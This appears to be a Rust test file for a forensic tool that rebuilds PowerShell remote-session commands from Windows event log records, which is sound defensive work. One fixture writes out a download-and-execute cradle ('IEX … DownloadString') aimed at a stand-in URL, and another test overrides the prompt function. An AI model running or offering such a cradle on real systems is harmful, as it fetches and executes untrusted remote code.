//! Small inputs of what engines log, each a handful of records of one session.

use chrono::{DateTime, TimeDelta};

use crate::model::{Command, Completeness, Link, LoggedId, Record, Role, SessionIdx};
use crate::normalise::testing::{self, event};
use crate::reconstruct::Reconstruction;
use crate::reconstruct::index::{Events, ProcessIdx};
use crate::reconstruct::testing::rebuilt;

const POWERSHELL: &str = "Microsoft-Windows-PowerShell/Operational";
const CLASSIC: &str = "Windows PowerShell";
const SID: &str = "S-1-5-21-1-1-1-1101";
/// The session's host process.
const HOST: u32 = 77;

/// Returns a record of a process at a time in milliseconds.
fn on(millis: i64, channel: &str, id: u32, process: u32, data: &[(&str, &str)]) -> Record {
    let record = testing::record(channel, id, data);
    Record {
        computer: "srv".into(),
        time: DateTime::UNIX_EPOCH + TimeDelta::milliseconds(millis),
        process_id: Some(process),
        user_sid: Some(SID.into()),
        ..record
    }
}

fn context(name: &str, kind: &str, (pipeline, sequence): (u32, u32)) -> String {
    format!(
        "\tHost Name = ServerRemoteHost\n\tHost ID = h\n\
         \tHost Application = C:\\Windows\\system32\\wsmprovhost.exe -Embedding\n\
         \tRunspace ID = r\n\tPipeline ID = {pipeline}\n\tCommand Name = {name}\n\
         \tCommand Type = {kind}\n\tSequence Number = {sequence}\n\tUser = CORP\\ann\n"
    )
}

/// Returns the payload of commands, each with at most one parameter: `("Get-Item", "Path", "x")`.
fn payload(commands: &[(&str, &str, &str)]) -> String {
    let lines = commands.iter().map(|(name, parameter, value)| match *parameter {
        "" => format!("CommandInvocation({name}): \"{name}\"\n"),
        _ => format!(
            "CommandInvocation({name}): \"{name}\"\n\
             ParameterBinding({name}): name=\"{parameter}\"; value=\"{value}\"\n"
        ),
    });
    lines.collect()
}

/// 4103.
fn invoked(millis: i64, at: (u32, u32), commands: &[(&str, &str, &str)]) -> Record {
    let context = context(commands[0].0, "Cmdlet", at);
    let data = [("ContextInfo", context.as_str()), ("Payload", &payload(commands))];
    on(millis, POWERSHELL, 4103, HOST, &data)
}

/// 800, which has the number before its 4103.
fn details(
    millis: i64,
    (pipeline, sequence): (u32, u32),
    commands: &[(&str, &str, &str)],
) -> Record {
    let context = format!(
        "\tDetailSequence=1\n\tDetailTotal=1\n\n\tSequenceNumber={}\n\n\tUserId=CORP\\ann\n\
         \tHostName=ServerRemoteHost\n\tHostId=h\n\
         \tHostApplication=C:\\Windows\\system32\\wsmprovhost.exe -Embedding\n\tRunspaceId=r\n\
         \tPipelineId={pipeline}\n\tScriptName=\n\tCommandLine= ",
        sequence - 1
    );
    let data = [("Data", " "), ("Data", context.as_str()), ("Data", &payload(commands))];
    Record { process_id: None, user_sid: None, ..on(millis, CLASSIC, 800, 0, &data) }
}

/// 4104.
fn script(millis: i64, id: &str, text: &str) -> Record {
    let data = [
        ("ScriptBlockId", id),
        ("MessageNumber", "1"),
        ("MessageTotal", "1"),
        ("ScriptBlockText", text),
    ];
    on(millis, POWERSHELL, 4104, HOST, &data)
}

/// 4105 or 4106.
fn run(millis: i64, id: u32, block: &str) -> Record {
    on(millis, POWERSHELL, id, HOST, &[("ScriptBlockId", block), ("RunspaceId", "r")])
}

/// 7937.
fn lifecycle(millis: i64, at: (u32, u32), name: &str, state: &str) -> Record {
    let context = context(name, "Cmdlet", at);
    let sentence = format!("Command {name} is {state}.");
    let data = [("ContextInfo", context.as_str()), ("Payload", &sentence)];
    on(millis, "Microsoft-Windows-PowerShell/Analytic", 7937, HOST, &data)
}

/// 4688 of a child of the host process.
fn started(millis: i64, image: &str, line: &str) -> Record {
    let data = [
        ("NewProcessId", "0x500"),
        ("NewProcessName", image),
        ("ProcessId", "77"),
        ("CommandLine", line),
        ("SubjectLogonId", "0x111"),
    ];
    on(millis, "Security", 4688, 4, &data)
}

fn rebuilt_from(records: Vec<Record>) -> Reconstruction {
    // A command before all others makes the session.
    let mut all = vec![invoked(0, (900, 900), &[("Get-Host", "", "")])];
    all.extend(records);
    let events = all.into_iter().enumerate().map(|(number, mut record)| {
        record.source.offset = number as u64;
        record.record_id = number as u64;
        event(&record)
    });
    let reconstruction = rebuilt(events.collect());
    assert_eq!(reconstruction.sessions.len(), 1);
    reconstruction
}

/// Returns all rows but the first, which every test has.
fn rows(reconstruction: &Reconstruction) -> &[Command] {
    &reconstruction.commands.as_slice()[1..]
}

/// Returns role, text, invocations and event ids of each row.
fn told(reconstruction: &Reconstruction) -> Vec<(Role, &str, Vec<&str>, Vec<u32>)> {
    let told = rows(reconstruction).iter().map(|row| {
        let ids = row.events.iter().map(|&event| reconstruction.events[event].event_id).collect();
        let invocations = row.invocations.iter().map(String::as_str).collect();
        (row.role, row.text.as_str(), invocations, ids)
    });
    told.collect()
}

fn parents(reconstruction: &Reconstruction) -> Vec<Option<(usize, Link)>> {
    let parents = rows(reconstruction).iter().map(|row| row.parent);
    parents.map(|parent| parent.map(|(parent, link)| (parent.index() - 1, link))).collect()
}

const SERVICE: (&str, &str, &str) = ("Get-Service", "Name", "WinRM");
const OUT: (&str, &str, &str) = ("Out-Default", "", "");

#[test]
fn a_typed_line_is_one_row_with_all_its_records() {
    let reconstruction = rebuilt_from(vec![
        lifecycle(1005, (5, 20), "Get-Service", "Started"),
        script(1000, "b", "gsv winrm"),
        details(1010, (5, 21), &[SERVICE]),
        invoked(1011, (5, 21), &[SERVICE]),
        invoked(1020, (5, 23), &[OUT]),
        lifecycle(1030, (5, 24), "Get-Service", "Stopped"),
    ]);
    let typed = (
        Role::Typed,
        "gsv winrm",
        vec!["Get-Service -Name \"WinRM\""],
        vec![4104, 4103, 800, 7937, 7937, 4103],
    );
    assert_eq!(told(&reconstruction), [typed]);
    let row = &rows(&reconstruction)[0];
    assert_eq!(row.runspace_id, LoggedId::parse("r"));
    assert_eq!((&*row.pipeline_id, row.link), ("5", Link::Text));
    assert_eq!(row.completeness, Completeness::Whole);
}

#[test]
fn without_a_script_what_was_invoked_at_once_is_a_row_in_the_engines_order() {
    let date = ("Get-Date", "", "");
    let late = ("Get-Random", "", "");
    let reconstruction = rebuilt_from(vec![
        invoked(1001, (5, 23), &[SERVICE, OUT]),
        invoked(1000, (5, 21), &[date]),
        details(1002, (5, 23), &[SERVICE, OUT]),
        // Much later in the same pipeline.
        invoked(60_000, (5, 25), &[late]),
        lifecycle(70_000, (7, 30), "Get-Item", "Started"),
    ]);
    let first = "Get-Date; Get-Service -Name \"WinRM\" | Out-Default";
    assert_eq!(
        told(&reconstruction),
        [
            (Role::Typed, first, vec![], vec![4103, 4103, 800]),
            (Role::Called, "Get-Random", vec![], vec![4103]),
            (Role::Typed, "Get-Item", vec![], vec![7937]),
        ]
    );
    assert_eq!(parents(&reconstruction), [None, Some((0, Link::Runspace)), None]);
    let complete: Vec<String> =
        rows(&reconstruction).iter().map(|row| row.completeness.to_string()).collect();
    assert_eq!(complete, ["no script text", "no script text", "name only"]);
}

#[test]
fn one_text_run_twice_and_a_name_much_later_are_not_merged() {
    let other = ("Get-Service", "Name", "Spooler");
    let reconstruction = rebuilt_from(vec![
        script(1000, "b", "Get-Service WinRM"),
        invoked(1010, (5, 21), &[SERVICE]),
        // The engine logs a block once: this is another run, of an unknown text.
        invoked(2000, (6, 31), &[SERVICE]),
        script(3000, "c", "Get-Service WinRM"),
        invoked(63_000, (7, 41), &[other]),
        script(64_000, "d", "Get-Service WinRM"),
        // A slow one: its parameter is in the text.
        invoked(164_000, (8, 51), &[SERVICE]),
    ]);
    let text = "Get-Service WinRM";
    let bound = "Get-Service -Name \"WinRM\"";
    assert_eq!(
        told(&reconstruction),
        [
            (Role::Typed, text, vec![bound], vec![4104, 4103]),
            (Role::Typed, bound, vec![], vec![4103]),
            (Role::Typed, text, vec![], vec![4104]),
            (Role::Typed, "Get-Service -Name \"Spooler\"", vec![], vec![4103]),
            (Role::Typed, text, vec![bound], vec![4104, 4103]),
        ]
    );
}

#[test]
fn fetched_code_is_called_by_the_line_that_runs_it() {
    let reconstruction = rebuilt_from(vec![
        script(1000, "a", "IEX (New-Object Net.WebClient).DownloadString('http://x')"),
        invoked(1010, (5, 21), &[("New-Object", "TypeName", "Net.WebClient")]),
        script(1100, "b", "Get-Service WinRM; Step-Two"),
        invoked(1110, (5, 23), &[SERVICE]),
        invoked(1120, (5, 25), &[("Get-Random", "", "")]),
        invoked(1130, (5, 27), &[("Invoke-Expression", "Command", "Get-Service")]),
        script(9000, "c", "Get-Date"),
    ]);
    let roles: Vec<Role> = rows(&reconstruction).iter().map(|row| row.role).collect();
    assert_eq!(roles, [Role::Typed, Role::Called, Role::Called, Role::Typed]);
    let by_time = Some((0, Link::Text));
    assert_eq!(parents(&reconstruction), [None, by_time, by_time, None]);
    assert_eq!(rows(&reconstruction)[0].invocations.len(), 2);
    assert_eq!(rows(&reconstruction)[1].invocations, ["Get-Service -Name \"WinRM\""]);
}

#[test]
fn runs_of_blocks_say_what_ran_what() {
    // No text names an invocation.
    let reconstruction = rebuilt_from(vec![
        script(1000, "a", "Step-One"),
        run(1001, 4105, "a"),
        script(1002, "b", "Step-Two"),
        run(1003, 4105, "b"),
        invoked(1004, (5, 21), &[SERVICE]),
        run(1005, 4106, "b"),
        invoked(1006, (5, 23), &[("Get-Date", "", "")]),
        run(1007, 4106, "a"),
        script(2000, "c", "Get-Date"),
    ]);
    assert_eq!(
        told(&reconstruction),
        [
            (Role::Typed, "Step-One", vec!["Get-Date"], vec![4104, 4103, 4105, 4106]),
            (
                Role::Called,
                "Step-Two",
                vec!["Get-Service -Name \"WinRM\""],
                vec![4104, 4103, 4105, 4106]
            ),
            (Role::Typed, "Get-Date", vec![], vec![4104]),
        ]
    );
    assert_eq!(parents(&reconstruction), [None, Some((0, Link::Runspace)), None]);
    assert_eq!(rows(&reconstruction)[0].link, Link::Runspace);
}

#[test]
fn the_engines_own_is_marked_and_kept() {
    let names = "Out-Default, Exit-PSSession";
    let reconstruction = rebuilt_from(vec![
        invoked(1000, (2, 11), &[("Get-Command", "Name", names)]),
        script(1100, "p", "prompt"),
        invoked(1110, (3, 13), &[("prompt", "", "")]),
        invoked(1120, (4, 15), &[OUT]),
        invoked(1130, (5, 17), &[("Get-Command", "Name", "evil")]),
        script(1200, "q", "function prompt { evil }"),
    ]);
    let roles: Vec<Role> = rows(&reconstruction).iter().map(|row| row.role).collect();
    use Role::{Engine, Typed};
    assert_eq!(roles, [Engine, Engine, Engine, Typed, Typed]);
    assert_eq!(rows(&reconstruction)[1].events.len(), 2);
}

#[test]
fn a_process_names_the_row_whose_text_started_it() {
    let whoami = r"C:\Windows\System32\whoami.exe";
    let by_text = rebuilt_from(vec![
        script(1000, "a", "whoami /all"),
        script(1500, "b", "hostname"),
        started(2000, whoami, r#""C:\Windows\system32\whoami.exe" /all"#),
    ]);
    assert_eq!(parents(&by_text), [None, None, Some((0, Link::Text))]);
    // Long after, or without a text that names it, nothing is guessed.
    for (millis, image) in [(60_000, whoami), (2000, r"C:\Windows\System32\net.exe")] {
        let guessed =
            rebuilt_from(vec![script(1000, "a", "whoami /all"), started(millis, image, image)]);
        assert_eq!(parents(&guessed), [None, None]);
    }
}

#[test]
fn the_engine_of_a_child_is_known_by_its_ids() {
    // The child has a host and a runspace of its own.
    let console = |text: &str| {
        let text = text.replace("ServerRemoteHost", "ConsoleHost");
        let text = text.replace("= h\n", "= c\n").replace("HostId=h\n", "HostId=c\n");
        text.replace("= r\n", "= s\n").replace("RunspaceId=r\n", "RunspaceId=s\n")
    };
    let child = |record: Record| {
        let mut data = crate::model::Fields::default();
        for (name, value) in record.data.iter() {
            data.push(name, &console(value));
        }
        let process_id = record.process_id.map(|_| 0x500);
        Record { data, process_id, ..record }
    };
    let powershell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    let reconstruction = rebuilt_from(vec![
        started(1000, powershell, "powershell -File x.ps1"),
        child(details(2000, (1, 21), &[SERVICE])),
        child(invoked(2001, (1, 21), &[SERVICE])),
    ]);
    assert_eq!(parents(&reconstruction), [None, Some((0, Link::Process))]);
    let called = &told(&reconstruction)[1];
    assert_eq!((called.0, &called.3[..]), (Role::Called, &[4103, 800][..]));
    let evidence = &reconstruction.sessions[SessionIdx::new(0)].evidence;
    assert!(evidence.iter().all(|evidence| evidence.link.is_key()));
}

#[test]
fn missing_parts_are_told() {
    let part = |number: &str, text: &str| {
        let data = [
            ("ScriptBlockId", "a"),
            ("MessageNumber", number),
            ("MessageTotal", "5"),
            ("ScriptBlockText", text),
        ];
        on(1000, POWERSHELL, 4104, HOST, &data)
    };
    let reconstruction = rebuilt_from(vec![part("1", "a"), part("3", "c")]);
    assert_eq!(rows(&reconstruction)[0].completeness.to_string(), "parts missing: 2, 4 to 5 of 5");
    let told = &reconstruction.sessions[SessionIdx::new(0)].command_completeness;
    let expected = "script blocks (4104); invocations (4103); no process starts seen; \
                    script blocks with parts missing: 1";
    assert_eq!(told, expected);
}

#[test]
fn what_was_not_logged_is_told_by_what_the_host_logs_at_other_times() {
    let local = |millis| on(millis, POWERSHELL, 4104, 5, &[("ScriptBlockText", "local")]);
    let told =
        |records| rebuilt_from(records).sessions[SessionIdx::new(0)].command_completeness.clone();
    let ends = "; invocations (4103); no process starts seen";
    assert_eq!(told(vec![]), format!("no script block logging seen{ends}"));
    let at_other_times = "no script blocks, though the host logged some at other times";
    assert_eq!(told(vec![local(500_000)]), format!("{at_other_times}{ends}"));
    let around = "no script blocks, though the host logged some before and after";
    assert_eq!(told(vec![local(-500_000), local(500_000)]), format!("{around}{ends}"));
    // The engine logs a block with a warning without any policy.
    let warned = |process| Record {
        level: 3,
        ..on(1000, POWERSHELL, 4104, process, &[("ScriptBlockText", "x")])
    };
    assert_eq!(told(vec![warned(5)]), format!("no script block logging seen{ends}"));
    let only = "only script blocks that the engine warned of (4104)";
    assert_eq!(told(vec![warned(HOST)]), format!("{only}{ends}"));
}

#[test]
fn a_log_full_of_alike_records_costs_no_square() {
    let mut records = Vec::new();
    for n in 0..20_000_u32 {
        let millis = i64::from(n);
        records.push(script(millis, &format!("b{n}"), "{ Get-Service WinRM }"));
        records.push(run(millis, 4105, &format!("b{n}")));
        records
            .push(Record { source: Default::default(), ..invoked(millis, (n, 2 * n), &[SERVICE]) });
    }
    let events: Events = records
        .into_iter()
        .enumerate()
        .map(|(number, mut record)| {
            record.source.offset = number as u64;
            event(&record)
        })
        .collect();
    let every_third = |rest| events.indices().filter(move |index| index.index() % 3 == rest);
    let session_of = events.iter().map(|_| Some(SessionIdx::new(0))).collect();
    let scripts =
        crate::reconstruct::assemble_script_blocks(&events, &session_of, &mut Default::default());
    let host: crate::model::HostName = "srv".into();
    let activity = super::activity::EngineActivity {
        blocks: scripts.indices().collect(),
        records: every_third(2).collect(),
        runs: every_third(1).collect(),
    };
    let place = super::draft::RunPlace {
        session: SessionIdx::new(0),
        host: &host,
        process: Some(ProcessIdx::new(0)),
        depth: 0,
    };
    let start = std::time::Instant::now();
    let rows = super::activity::command_drafts(&events, &scripts, &place, &activity);
    assert_eq!(rows.len(), 20_000);
    assert!(start.elapsed().as_secs() < 20, "{:?}", start.elapsed());
}
